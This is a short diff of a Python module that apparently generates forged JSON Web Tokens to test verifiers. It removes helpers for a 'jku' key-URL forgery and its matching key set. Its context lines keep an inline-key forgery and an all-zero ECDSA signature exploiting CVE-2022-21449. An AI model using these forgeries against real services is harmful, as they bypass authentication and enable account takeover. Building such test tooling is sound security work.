@@ -81,19 +81,6 @@ def with_inline_key(token: Jwt, case: str) -> str:
     return sign({**token.claims, MARK: case}, _stranger(alg), alg, header)
 
 
-def with_key_url(token: Jwt, case: str, url: str) -> str:
-    """Give the token signed by a stranger's key that its header says to fetch (RFC 7515, section 4.1.2)."""
-    alg = _asymmetric(token)
-    kid = thumbprint(public_jwk(_stranger(alg)))
-    return sign({**token.claims, MARK: case}, _stranger(alg), alg, {**token.header, "alg": alg, "jku": url, "kid": kid})
-
-
-def key_set_of_stranger(token: Jwt) -> bytes:
-    """Give the JWKS that verifies what `with_key_url` signs."""
-    jwk = public_jwk(_stranger(_asymmetric(token)), alg=_asymmetric(token))
-    return json.dumps({"keys": [{**jwk, "kid": thumbprint(jwk), "use": "sig"}]}).encode()
-
-
 def with_zero_signature(token: Jwt, case: str) -> str:
     """Give the token with an ECDSA signature of r = s = 0, which fits every payload where nobody looks (CVE-2022-21449)."""
     return f"{token.raw.partition('.')[0]}.{_claims(token, case)}.{encoded(bytes(_ZEROS[token.alg or 'ES256']))}"
